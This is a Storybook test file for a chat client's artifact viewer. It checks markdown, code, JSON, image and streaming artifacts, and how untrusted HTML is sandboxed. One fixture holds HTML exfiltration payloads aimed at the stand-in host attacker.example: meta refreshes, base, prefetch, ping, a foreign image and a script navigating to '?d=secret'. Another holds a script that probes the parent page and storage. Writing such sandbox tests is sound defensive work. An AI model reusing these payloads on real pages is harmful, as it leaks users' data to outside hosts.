import type { Meta, StoryObj } from '@storybook/react-vite';
import { createPlatosStore, type PlatosClient, type ServerEvent, type ThreadListener } from '@platosdev/client';
import { Artifact, Policy, PlatosProvider, PlatosThread } from '@platosdev/client/react';
import { expect, userEvent, waitFor, within } from 'storybook/test';
import type { EventBody } from '../mock-server/scenarios/index.js';
import { createScriptedClient } from './support/scripted-client.js';
import { withThreadEvents } from './support/thread-fixture.js';
import { nextEvent, threadScript } from './support/thread-script.js';

const artifactId = 'artifact-1';
/** A 96x48 gradient. */
const gradientPng =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAGAAAAAwCAIAAABhdOiYAAABgUlEQVR42u3QA1oDAAAG0J0u12zbNnOLa1sLQ96ybdu2cY/O0ff97wiPQMz6JWb/kHK+Sblf5LxPcv4HpeCdUvhGLXqlEl9opGca+YlOeaRTHxi0ewb9jsm4ZTJvWKxrFvuKzblkcy84vHMO/4wrOOUKT3iiY574iC855EsPBLJ9gXxPqNgVKndEqm2Rekus2RRrNyS6dYl+TWpYlRpXZKZlmXlJblmUWxcUtnmFfU7pmFU6Z1SuaZV7Su2ZVHsnNL5xjX9MGxjVFo/oSoZ1pUP6skF9+YChot9Q2WesyhiDaVN1r6mmx1zbba7rstR3Who6rKF2a2PKFk7aIgl7NG5vanPEWh3NLc6WZmdrzNXW5IpH3YmIOxn2pBo97SFvR4O3s97XVefrrvX31Ph7qwPpYCBTRUAQghCEIAQhCEEIQhCCEIQgBCEIQQhCEIIQhCAEIQhBCEIQghCEIAQhCEEIQhCCEIQgBCEIQQhCEIIQhCAEIQhBCEIQghCEoP8R9AcHyzylWXTsWQAAAABJRU5ErkJggg==';

const created = (kind: 'markdown' | 'code' | 'json' | 'image' | 'html', title: string, content: string, language?: string): EventBody => ({
  type: 'artifact-created',
  artifactId,
  kind,
  title,
  content,
  version: 1,
  ...(language === undefined ? {} : { language }),
});

const meta = {
  title: 'Components/ArtifactView',
  component: Artifact.View,
  tags: ['autodocs'],
  args: { id: artifactId },
} satisfies Meta<typeof Artifact.View>;

export default meta;
type Story = StoryObj<typeof meta>;

const artifact = (canvasElement: HTMLElement, title: string) => within(canvasElement).findByRole('region', { name: `Artifact: ${title}` });

/** Three versions: a full v1, a delta for v2 and a full replacement for v3. Earlier versions can be browsed. */
export const Markdown: Story = {
  decorators: [
    withThreadEvents([
      created('markdown', 'Summary', '# Summary\n\n- validate frames\n'),
      { type: 'artifact-updated', artifactId, version: 2, delta: '- deduplicate by id\n' },
      { type: 'artifact-updated', artifactId, version: 3, content: '# Summary\n\n- validate frames\n- deduplicate by id\n- resume after reconnects\n' },
    ]),
  ],
  play: async ({ canvasElement }) => {
    const region = await artifact(canvasElement, 'Summary');
    const view = within(region);
    expect(view.getByText('v3 of 3')).toBeInTheDocument();
    expect(view.getAllByRole('listitem')).toHaveLength(3);
    await userEvent.click(view.getByRole('button', { name: 'Previous version' }));
    expect(view.getByText('v2 of 3')).toBeInTheDocument();
    expect(view.getAllByRole('listitem')).toHaveLength(2);
    await userEvent.click(view.getByRole('button', { name: 'Previous version' }));
    expect(view.getAllByRole('listitem')).toHaveLength(1);
    expect(view.getByRole('button', { name: 'Previous version' })).toBeDisabled();
    expect(view.getByRole('heading', { name: 'Summary' })).toBeInTheDocument();
  },
};

export const Code: Story = {
  decorators: [withThreadEvents([created('code', 'retry.ts', 'export const backoff = (n: number) => Math.min(30_000, 500 * 2 ** n);\n', 'ts')])],
  play: async ({ canvasElement }) => {
    const region = await artifact(canvasElement, 'retry.ts');
    expect(region).toHaveAttribute('data-kind', 'code');
    expect(region.querySelector('code.language-ts')).toHaveTextContent('export const backoff');
    expect(within(region).getByText('ts')).toBeInTheDocument();
  },
};

/** JSON as a tree: the first two levels open, deeper ones behind buttons with aria-expanded. */
export const Json: Story = {
  decorators: [
    withThreadEvents([
      created('json', 'config.json', '{"replayWindowMs":30000,"transports":["websocket","polling"],"backoff":{"baseMs":500,"factor":2,"jitter":{"ratio":0.5}},"debug":false,"proxy":null}'),
    ]),
  ],
  play: async ({ canvasElement }) => {
    const region = await artifact(canvasElement, 'config.json');
    const tree = within(region).getByRole('list', { name: 'JSON' });
    expect(tree).toHaveTextContent('replayWindowMs: 30000');
    const jitter = within(tree).getByRole('button', { name: 'jitter, 1 key' });
    expect(jitter).toHaveAttribute('aria-expanded', 'false');
    jitter.focus();
    await userEvent.keyboard('{Enter}');
    expect(jitter).toHaveAttribute('aria-expanded', 'true');
    expect(tree).toHaveTextContent('ratio: 0.5');
  },
};

export const Image: Story = {
  decorators: [withThreadEvents([created('image', 'Gradient', gradientPng)])],
  play: async ({ canvasElement }) => {
    const region = await artifact(canvasElement, 'Gradient');
    const image = within(region).getByRole<HTMLImageElement>('img', { name: 'Gradient' });
    await waitFor(() => expect(image.naturalWidth).toBe(96));
  },
};

const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/**
 * Chromium reports inline handlers and `<base>` as CSP violations even in a document that is only parsed (the
 * artifact being sanitized under the page's policy); nothing in it runs or loads, so these reports are expected.
 */
const parsedMarkupReports = { csp: { expectedReports: ['script-src-attr', 'base-uri'] } };

const widgetHtml = [
  '<script>document.addEventListener("securitypolicyviolation", (event) => parent.postMessage({ platosFrame: `csp ${event.effectiveDirective} ${event.blockedURI}` }, "*"));</script>',
  '<style>body{font:14px system-ui;margin:16px}h1{font-size:18px;color:#4f46e5}.bg{width:40px;height:20px;background:url(https://example.com/bg.png)}</style>',
  '<h1>Widget</h1><p id="out">waiting</p>',
  '<div class="bg"></div><div style="width:40px;height:20px;background-image:image-set(url(https://example.com/set.png) 1x)"></div>',
  '<img src="https://example.com/tracker.png" onerror="parent.postMessage({ platosFrame: \'network-image-blocked\' }, \'*\')">',
  '<script>',
  'document.getElementById("out").textContent = "script ran";',
  'let reached = "blocked"; try { reached = parent.document.title; } catch (error) { reached = "blocked"; }',
  'try { localStorage.setItem("x", "1"); reached += ", storage open"; } catch (error) { reached += ", storage blocked"; }',
  'parent.postMessage({ platosFrame: reached }, "*");',
  'window.__platosPwned = true;',
  '</script>',
].join('');

/**
 * HTML renders inside a sandboxed iframe under a CSP, first without its scripts. "Run scripts" reloads the frame
 * with `allow-scripts` (never `allow-same-origin`). This page has a strict CSP of its own, as an app may, and a
 * `srcdoc` frame inherits it: its inline scripts still do not run. `HtmlFromArtifactOrigin` shows the way out.
 */
export const Html: Story = {
  parameters: parsedMarkupReports,
  decorators: [withThreadEvents([created('html', 'Widget', widgetHtml)])],
  play: async ({ canvasElement }) => {
    const messages: unknown[] = [];
    const listen = (event: MessageEvent) => messages.push((event.data as { platosFrame?: unknown } | null)?.platosFrame);
    window.addEventListener('message', listen);
    try {
      const region = await artifact(canvasElement, 'Widget');
      const frame = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Widget');
      expect(frame).toHaveAttribute('sandbox', '');
      expect(frame).toHaveAttribute('data-scripts', 'off');
      expect(frame.getAttribute('srcdoc')).not.toContain('script-src');
      expect(frame.getAttribute('srcdoc')).not.toContain('__platosPwned');
      expect(within(region).getByText('Shown without its scripts.')).toBeVisible();

      await userEvent.click(within(region).getByRole('button', { name: 'Run scripts' }));
      const scripted = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Widget');
      expect(scripted).toHaveAttribute('sandbox', 'allow-scripts');
      expect(scripted).toHaveAttribute('data-scripts', 'on');
      expect(scripted.getAttribute('srcdoc')).toContain("default-src 'none'; img-src data:; media-src data:; font-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'; script-src 'unsafe-inline'");
      await wait(1000);
      expect(messages).not.toContain('blocked, storage blocked');
      // An opaque origin: the page cannot read the frame's document either.
      expect(scripted.contentDocument).toBeNull();
      expect((window as { __platosPwned?: boolean }).__platosPwned).toBeUndefined();
      expect(region.querySelectorAll('script, h1')).toHaveLength(0);

      await userEvent.click(within(region).getByRole('button', { name: 'Source' }));
      expect(region.querySelector('iframe')).toBeNull();
      expect(region.querySelector('code.language-html')).toHaveTextContent('window.__platosPwned = true;');
    } finally {
      window.removeEventListener('message', listen);
    }
  },
};

const chartHtml = [
  '<style>body{font:14px system-ui;margin:16px;color:#18181b}h1{font-size:16px;margin:0 0 12px}',
  '.bars{display:flex;gap:8px;align-items:flex-end;height:120px}.bars div{flex:1;background:#6366f1;border-radius:4px 4px 0 0}</style>',
  '<h1>Weekly signups</h1><div class="bars"><div style="height:40%"></div><div style="height:65%"></div><div style="height:55%"></div><div style="height:90%"></div></div>',
  '<script>document.querySelector("h1").textContent += " (live)";</script>',
].join('');

/** How an HTML artifact first shows under the default policy (`scripts: 'ask'`): without its scripts, and a button to run them. */
export const HtmlScriptsOff: Story = {
  decorators: [withThreadEvents([created('html', 'Signups', chartHtml)])],
  play: async ({ canvasElement }) => {
    const region = await artifact(canvasElement, 'Signups');
    expect(within(region).getByRole('button', { name: 'Run scripts' })).toHaveClass('platos-artifact-run-scripts');
    expect(within(region).getByTitle('Sandboxed preview: Signups')).toHaveAttribute('data-scripts', 'off');
  },
};

const hostileHtml = [
  '<META HTTP-EQUIV = "Refresh" CONTENT="0;url=https://attacker.example/?d=meta">',
  '<base href="https://attacker.example/"><link rel="prefetch" href="https://attacker.example/?d=prefetch">',
  '<p>Nothing to see here.</p>',
  "<noscript><meta http-equiv=refresh content='0; URL=https://attacker.example/?d=noscript'></noscript>",
  '<img src="https://attacker.example/?d=img"><a href="https://example.com/" ping="https://attacker.example/?d=ping">a link</a>',
  '<script>addEventListener("load", () => setTimeout(() => { location.href = "https://attacker.example/?d=secret"; }, 100));</script>',
].join('');

/** Counts the load events of the frames in a region: one per document shown, a navigation included. */
function countLoads(region: HTMLElement) {
  const loads = { count: 0 };
  region.addEventListener('load', () => (loads.count += 1), true);
  return loads;
}

/**
 * Model output that tries to send data away: a script setting `location.href` once loaded, meta refreshes (one in
 * `<noscript>`), `<base>`, prefetch, a foreign image and `ping`. Shown without scripts, the frame stays on its own
 * document. After "Run scripts" the frame loads once more, and this page's CSP (inherited by `srcdoc`) keeps the
 * script from running; in a frame that runs scripts, a script could navigate that frame (see docs/security.md).
 */
export const HostileHtml: Story = {
  parameters: parsedMarkupReports,
  decorators: [withThreadEvents([created('html', 'Hostile', hostileHtml)])],
  play: async ({ canvasElement }) => {
    const region = await artifact(canvasElement, 'Hostile');
    const loads = countLoads(region);
    // Reload the preview while counting, so the first load of the frame is counted too.
    await userEvent.click(within(region).getByRole('button', { name: 'Source' }));
    await userEvent.click(within(region).getByRole('button', { name: 'Source' }));
    const frame = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Hostile');
    expect(frame).toHaveAttribute('data-scripts', 'off');
    await waitFor(() => expect(loads.count).toBe(1), { timeout: 5000 });
    await wait(1500);
    // Still the one srcdoc document: a navigation would have loaded a second one.
    expect(loads.count).toBe(1);
    expect(frame.isConnected).toBe(true);
    expect(frame.getAttribute('srcdoc')).not.toMatch(/refresh|<base|<link|ping=|location\.href/i);

    await userEvent.click(within(region).getByRole('button', { name: 'Run scripts' }));
    const scripted = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Hostile');
    expect(scripted).toHaveAttribute('data-scripts', 'on');
    expect(scripted.getAttribute('srcdoc')).toContain('location.href');
    expect(scripted.getAttribute('srcdoc')).not.toMatch(/refresh/i);
    await waitFor(() => expect(loads.count).toBe(2), { timeout: 5000 });
    await wait(1500);
    expect(loads.count).toBe(2);
  },
};

/**
 * With `artifactOrigin`, the frame loads the app's sandbox page (Storybook serves `artifactSandboxPageHtml` at
 * `/platos-artifact.html`, as an app would on its sandbox origin) and sends it the built document after its ready
 * message. The page comes over the network without the chat's CSP, and the frame is sandboxed without
 * `allow-same-origin`: the artifact's scripts run, in an opaque origin, with only the artifact's own CSP.
 */
export const HtmlFromArtifactOrigin: Story = {
  parameters: parsedMarkupReports,
  decorators: [
    withThreadEvents([
      created('html', 'Remote', `${widgetHtml}<script>parent.postMessage({ platosFrame: \`sandbox page: \${document.title}, origin \${window.origin}\` }, "*");</script>`),
    ]),
    (Story) => (
      <Policy.Provider artifactOrigin={window.location.origin} artifacts={{ html: { scripts: 'always' } }}>
        <Story />
      </Policy.Provider>
    ),
  ],
  play: async ({ canvasElement }) => {
    const messages: unknown[] = [];
    const listen = (event: MessageEvent) => messages.push((event.data as { platosFrame?: unknown } | null)?.platosFrame);
    window.addEventListener('message', listen);
    try {
      const region = await artifact(canvasElement, 'Remote');
      const frame = within(region).getByTitle<HTMLIFrameElement>('Sandboxed preview: Remote');
      expect(frame).toHaveAttribute('src', `${window.location.origin}/platos-artifact.html`);
      expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
      expect(frame).toHaveAttribute('data-scripts', 'on');
      expect(frame.hasAttribute('srcdoc')).toBe(false);
      await waitFor(() => expect(messages).toContain('sandbox page: Sandboxed preview: Remote, origin null'), { timeout: 5000 });
      // The script ran, yet reached neither the page nor storage. The foreign images (an <img>, CSS url() and
      // image-set()) were removed before the document was built, so the browser never even tried them: no error
      // event, no CSP report.
      await waitFor(() => expect(messages).toContain('blocked, storage blocked'), { timeout: 5000 });
      await wait(500);
      expect(messages).not.toContain('network-image-blocked');
      expect(messages.filter((message) => String(message).startsWith('csp '))).toEqual([]);
      expect(frame.contentDocument).toBeNull();
      expect((window as { __platosPwned?: boolean }).__platosPwned).toBeUndefined();
    } finally {
      window.removeEventListener('message', listen);
    }
  },
};

const streamThreadId = 'artifact-streaming';

/** A thread holding a one-line code artifact, plus a way to stream further events into it. */
function createStreamingThread() {
  const script = threadScript(streamThreadId, [created('code', 'stream.ts', 'const line1 = 1;', 'ts')]);
  const scripted = createScriptedClient(script);
  const listeners = new Set<ThreadListener>();
  const client: PlatosClient = {
    ...scripted,
    threads: {
      ...scripted.threads,
      watch(threadId, listener) {
        listeners.add(listener);
        const stop = scripted.threads.watch(threadId, listener);
        return () => {
          listeners.delete(listener);
          stop();
        };
      },
    },
  };
  let last: ServerEvent = script[script.length - 1]!;
  const emit = (body: EventBody) => {
    last = nextEvent(last, body);
    for (const listener of listeners) listener({ kind: 'event', event: last });
  };
  return { client, store: createPlatosStore({ client }), emit };
}

interface StreamingLoaded {
  stream: ReturnType<typeof createStreamingThread>;
}

function StreamingChat({ thread }: { thread: ReturnType<typeof createStreamingThread> }) {
  return (
    <PlatosProvider client={thread.client} store={thread.store}>
      <PlatosThread threadId={streamThreadId}>
        <div style={{ maxWidth: 640, display: 'grid', gap: 12 }}>
          <p>Text before the artifact.</p>
          <Artifact.View id={artifactId} />
          <p data-testid="after-artifact">Text after the artifact.</p>
        </div>
      </PlatosThread>
    </PlatosProvider>
  );
}

const nextFrame = () => new Promise<void>((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve())));

/**
 * 80 delta appends stream into a code artifact: the card grows to its body's max height, then the
 * body scrolls inside and follows the end while the text after the card stays where it is.
 */
export const Streaming: Story = {
  loaders: [() => ({ stream: createStreamingThread() })],
  render: (_args, { loaded }) => <StreamingChat thread={(loaded as StreamingLoaded).stream} />,
  play: async ({ canvasElement, loaded }) => {
    const region = await artifact(canvasElement, 'stream.ts');
    const after = within(canvasElement).getByTestId('after-artifact');
    const body = region.querySelector<HTMLElement>('.platos-artifact-body')!;
    const { emit } = (loaded as StreamingLoaded).stream;
    const heights: number[] = [];
    const afterTops: number[] = [];
    for (let version = 2; version <= 81; version += 1) {
      emit({ type: 'artifact-updated', artifactId, version, delta: `\nconst line${version} = ${version};` });
      await nextFrame();
      heights.push(region.getBoundingClientRect().height);
      afterTops.push(after.getBoundingClientRect().top);
    }
    expect(within(region).getByText('v81 of 81')).toBeInTheDocument();
    const maxHeight = Math.max(...heights);
    const capped = heights.findIndex((height) => height === maxHeight);
    // Grows until the body's max height, then never again: the text after it stops moving.
    expect(capped).toBeLessThan(40);
    expect(new Set(afterTops.slice(capped)).size).toBe(1);
    expect(body.scrollHeight).toBeGreaterThan(body.clientHeight * 2);
    expect(body.scrollHeight - body.scrollTop - body.clientHeight).toBeLessThan(2);
    console.info(`artifact streaming: card ${heights[0]}px -> ${maxHeight}px after ${capped + 1} of 80 deltas, then 0 px of movement for ${80 - capped - 1} deltas`);
  },
};
